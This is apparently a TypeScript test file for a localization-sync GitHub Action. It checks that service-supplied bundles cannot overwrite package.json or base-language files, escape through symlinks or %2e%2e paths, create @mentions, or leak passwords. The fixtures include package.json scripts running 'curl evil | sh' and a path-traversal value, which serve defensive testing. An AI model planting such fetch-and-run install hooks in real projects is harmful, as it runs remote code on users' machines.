import { rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { annotations } from '../support/action-runner.ts';
import { jsonFile } from '../support/emulator.ts';
import { git } from '../support/git-fixture.ts';
import type { Scenario, ScenarioOptions } from '../support/scenario.ts';
import { zipBytes } from '../support/zip-writer.ts';
import { type Starter, describe, expect, it } from '../support/fixtures.ts';
import { testFolder } from '../support/temp.ts';

/**
 * The bundle is the service's word, not the user's: a pull writes only the project's languages
 * that pull-languages asks for, never the base language's file unless asked, whatever names the
 * bundle holds, compared after language-map and without regard to case.
 */
const BRANCH = 'l10n-sync/main';
const EN = { hello: 'Hello' };
const DE = '{"hello":"Hallo"}';

async function project(
  start: Starter<ScenarioOptions, Scenario>,
  files: Record<string, string>,
  inputs: Record<string, string> = {},
  languages = ['de'],
): Promise<Scenario> {
  const s = await start({
    files,
    languages,
    inputs: { mode: 'pull', ...inputs },
  });
  await s.service.project.import({
    id: s.projectId,
    lang_iso: 'en',
    file: jsonFile('en.json', EN),
  });
  return s;
}

/** The files the pull request branch changed against main. */
function proposed(s: Scenario): string[] {
  return git(s.fixture.origin, 'diff', '--name-only', 'main', BRANCH).split('\n').filter(Boolean);
}

describe('a pull writes only what was asked', () => {
  it('skips a bundle entry named like a tracked file that is no language of the project (package.json)', async ({
    startScenario,
  }) => {
    const pkg = '{"name":"app","scripts":{}}';
    const s = await project(
      startScenario,
      { 'en.json': JSON.stringify(EN), 'package.json': pkg },
      { files: '%LANG_ISO%.json' },
    );
    s.emulator.store.nextBundle = zipBytes([
      { name: 'de.json', data: DE },
      { name: 'package.json', data: '{"scripts":{"postinstall":"curl evil | sh"}}' },
    ]);
    const run = await s.run();
    expect(run.code).toBe(0);
    expect(proposed(s)).toEqual(['de.json']);
    expect(git(s.fixture.origin, 'show', `${BRANCH}:package.json`)).toBe(pkg);
    expect(run.stdout).toContain('package.json: not a language of the project');
    expect(run.summary).toContain('- `package.json`: not a language of the project');
    expect(run.outputs['changed-languages']).toBe('["de"]');
  });

  it('takes no project language whose code is not shaped like one: a language renamed package never writes package.json', async ({
    startScenario,
  }) => {
    const pkg = '{"name":"app","scripts":{"format":"prettier --write ."}}';
    const s = await project(
      startScenario,
      { 'en.json': JSON.stringify(EN), 'package.json': pkg },
      { files: '%LANG_ISO%.json', 'post-pull-command': 'cat package.json' },
      ['de', 'fr'],
    );
    // Anyone who may rename a language on the service can do this.
    await s.service.language.set({ id: s.projectId, original_iso: 'fr', custom_iso: 'package' });
    s.emulator.store.nextBundle = zipBytes([
      { name: 'de.json', data: DE },
      { name: 'package.json', data: '{"scripts":{"format":"curl evil | sh"}}' },
    ]);
    const run = await s.run();
    expect(run.code).toBe(0);
    expect(s.calls('project/export')[0]?.params['langs']).toBe('["de"]');
    expect(proposed(s)).toEqual(['de.json']);
    expect(git(s.fixture.origin, 'show', `${BRANCH}:package.json`)).toBe(pkg);
    expect(run.stdout).not.toContain('curl evil');
    expect(annotations(run.stdout, 'warning')).toContain(
      "Not pulled: the project's language 'package': not shaped like a language code (such as de, pt_BR, pt-BR, zh_Hans_CN, sr@latin); name it in pull-languages or language-map to pull it",
    );
    expect(run.stdout).toContain('  package.json: not shaped like a language code');
    expect(run.outputs['changed-languages']).toBe('["de"]');
  });

  it('never writes the base file through a language-map target (en-US=en) or a case variant (EN)', async ({
    startScenario,
  }) => {
    const base = JSON.stringify(EN);
    const s = await project(
      startScenario,
      { 'locales/en-US.json': base },
      { 'language-map': 'en-US=en, de-DE=de' },
      ['de'],
    );
    s.emulator.store.nextBundle = zipBytes([
      { name: 'locales/de.json', data: DE },
      { name: 'locales/en-US.json', data: '{"hello":"pwned"}' },
      { name: 'locales/EN.json', data: '{"hello":"pwned"}' },
    ]);
    const run = await s.run();
    expect(run.code).toBe(0);
    expect(proposed(s)).toEqual(['locales/de-DE.json']);
    expect(git(s.fixture.origin, 'show', `${BRANCH}:locales/en-US.json`)).toBe(base);
    expect(run.stdout).toContain('locales/en-US.json: not a language of the project');
    expect(run.stdout).toContain('locales/EN.json: the base language');
    expect(run.outputs['changed-languages']).toBe('["de-DE"]');
  });

  it('skips a language the project has but pull-languages does not ask for, and the base', async ({
    startScenario,
  }) => {
    const s = await project(
      startScenario,
      { 'locales/en.json': JSON.stringify(EN) },
      { 'pull-languages': 'de' },
      ['de', 'fr'],
    );
    s.emulator.store.nextBundle = zipBytes([
      { name: 'locales/de.json', data: DE },
      { name: 'locales/fr.json', data: '{"hello":"Bonjour"}' },
      { name: 'locales/en.json', data: '{"hello":"pwned"}' },
    ]);
    const run = await s.run();
    expect(run.code).toBe(0);
    expect(proposed(s)).toEqual(['locales/de.json']);
    expect(run.summary).toContain('- `locales/fr.json`: not asked for by pull-languages');
    expect(run.summary).toContain('- `locales/en.json`: the base language');
  });

  it('refuses, changing nothing, an entry that differs from a tracked file only by case', async ({
    startScenario,
  }) => {
    const s = await project(startScenario, {
      'locales/en.json': JSON.stringify(EN),
      'locales/de.json': '{}',
    });
    s.emulator.store.nextBundle = zipBytes([{ name: 'locales/DE.json', data: DE }]);
    const run = await s.run();
    expect(run.code).toBe(1);
    const [error] = annotations(run.stdout, 'error');
    expect(error).toMatch(/^Refused the bundle, nothing was written: /);
    expect(error).toContain("differs only by case from the tracked 'locales/de.json'");
    expect(git(run.workspace, 'status', '--porcelain', '--untracked-files=all')).toBe('');
    expect(s.github.pulls).toEqual([]);
  });

  it('refuses two entries that differ only by case', async ({ startScenario }) => {
    const s = await project(startScenario, { 'locales/en.json': JSON.stringify(EN) });
    s.emulator.store.nextBundle = zipBytes([
      { name: 'locales/de.json', data: DE },
      { name: 'locales/De.json', data: DE },
    ]);
    const run = await s.run();
    expect(run.code).toBe(1);
    expect(annotations(run.stdout, 'error')[0]).toMatch(/where case does not count/);
    expect(git(run.workspace, 'status', '--porcelain', '--untracked-files=all')).toBe('');
  });
});

describe('a dry run reads the repository from git, not through its links', () => {
  it('follows no committed link to a file outside, and says what the real run would', async ({
    startScenario,
  }) => {
    const marker = 'MARKER-outside-the-checkout';
    const outside = join(testFolder('l10n-outside-'), 'secret.json');
    writeFileSync(outside, JSON.stringify({ hello: marker }));
    const s = await project(startScenario, {
      'locales/en.json': JSON.stringify(EN),
      'locales/fr.json': '{"hello":"Salut"}',
    });
    rmSync(join(s.fixture.author, 'locales/fr.json'));
    symlinkSync(outside, join(s.fixture.author, 'locales/de.json'));
    git(s.fixture.author, 'add', '-A');
    git(s.fixture.author, 'commit', '-q', '-m', 'A link');
    git(s.fixture.author, 'push', '-q', 'origin', 'main');
    await s.service.project.import({
      id: s.projectId,
      lang_iso: 'de',
      file: jsonFile('de.json', { hello: 'Hallo' }),
    });
    const real = await s.run();
    const dry = await s.run({ 'dry-run': 'true' });
    const refusal = "'locales/de.json' in the checkout is a symbolic link";
    for (const run of [real, dry]) {
      expect(run.code).toBe(1);
      expect(annotations(run.stdout, 'error')[0]).toContain(refusal);
      expect(run.everything).not.toContain(marker);
    }
  });
});

describe('text from the service in the pull request cannot mention anyone', () => {
  it('defuses @name in a language code and in the summary', async ({ startScenario }) => {
    const s = await project(startScenario, { 'locales/en.json': JSON.stringify(EN) }, {}, ['sr']);
    // A custom code, as gettext names Serbian in Latin script.
    await s.service.language.set({ id: s.projectId, original_iso: 'sr', custom_iso: 'sr@latin' });
    await s.service.project.import({
      id: s.projectId,
      lang_iso: 'sr@latin',
      file: jsonFile('sr.json', { hello: 'Zdravo' }),
    });
    const run = await s.run();
    expect(run.code).toBe(0);
    const [pr] = s.github.pulls;
    expect(pr?.body).toContain('sr@latin');
    for (const markdown of [pr?.body ?? '', run.summary]) {
      expect(referencesOutsideCode(markdown)).toEqual([]);
    }
  });
});

/**
 * `@name` and `#123` that GitHub could turn into a mention or an issue link: outside code, and
 * not the action's own link to its pull request.
 */
function referencesOutsideCode(markdown: string): string[] {
  const prose = markdown
    .replace(/^```[\s\S]*?^```/gm, '')
    .replace(/(`+)[^`]*?\1/g, '')
    .replace(/\[#\d+\]\([^)]*\)/g, '');
  return prose.match(/[@#][\p{L}\p{N}]/gu) ?? [];
}

describe("addresses in the service's answers", () => {
  it('refuses a bundle.file that climbs out of download-url with %2e%2e, writing nothing', async ({
    startScenario,
  }) => {
    const s = await project(startScenario, { 'locales/en.json': JSON.stringify(EN) });
    s.emulator.store.nextLocation = { file: 'files/%2e%2e/%2e%2e/secret.zip' };
    const run = await s.run({ 'download-url': s.emulator.downloadUrl });
    expect(run.code).toBe(1);
    expect(annotations(run.stdout, 'error')).toEqual([
      "download (revision 1.0.9.3) not sent: the bundle path 'files/%2e%2e/%2e%2e/secret.zip' is not a relative path below download-url",
    ]);
    expect(s.calls('download')).toEqual([]);
    expect(git(run.workspace, 'status', '--porcelain', '--untracked-files=all')).toBe('');
  });

  it('never prints a password given in download-url', async ({ startScenario }) => {
    const s = await project(startScenario, { 'locales/en.json': JSON.stringify(EN) });
    const password = 'Sup3r-s3cret-pw';
    const withPassword = s.emulator.downloadUrl.replace('http://', `http://reader:${password}@`);
    const run = await s.run({ 'download-url': withPassword });
    expect(run.stdout).toContain(`::add-mask::${password}`);
    expect(run.everything).not.toContain(password);
  });
});
